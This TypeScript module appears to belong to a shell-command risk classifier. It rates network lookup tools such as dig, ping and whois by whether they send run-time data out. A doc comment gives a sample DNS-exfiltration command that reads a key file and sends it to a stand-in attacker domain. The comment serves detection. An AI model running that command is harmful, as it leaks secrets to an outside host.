import type { Handler } from './classify-files';
import { notUnderstood, readOnly, risky, type Verdict } from './risk';
import type { CommandPart } from './shell/command-part';

/**
 * dig, host, nslookup, ping...: a look-up of names written in the command only reads; one
 * whose name or data is built at run time (`dig $(cat key).evil.com`) carries local data
 * out; a look-up that reads its queries from a file is not understood.
 */
function lookup(part: CommandPart): Verdict {
  const args = part.argv.slice(1);
  if (part.subPrograms.length > 0 || args.some((a) => a.value === undefined)) {
    return risky(`sends data only known at run time over the network (${part.name})`);
  }
  if (part.name === 'dig' && args.some((a) => /^-f/.test(a.value ?? ''))) {
    return notUnderstood(`${part.name} reads its queries from a file`);
  }
  return readOnly(`looks up a name or address on the network (${part.name})`);
}

/** whois, finger: literal queries to any server; data built at run time goes out. */
function query(part: CommandPart): Verdict {
  if (part.subPrograms.length > 0 || part.argv.some((a) => a.value === undefined)) {
    return risky(`sends data only known at run time over the network (${part.name})`);
  }
  return notUnderstood(`sends a query to a server with ${part.name}`);
}

export const LOOKUP_HANDLERS: Record<string, Handler> = {
  ...Object.fromEntries(
    'dig host nslookup ping ping6 traceroute traceroute6 tracepath mtr drill'
      .split(' ')
      .map((n) => [n, lookup]),
  ),
  whois: query,
  finger: query,
};
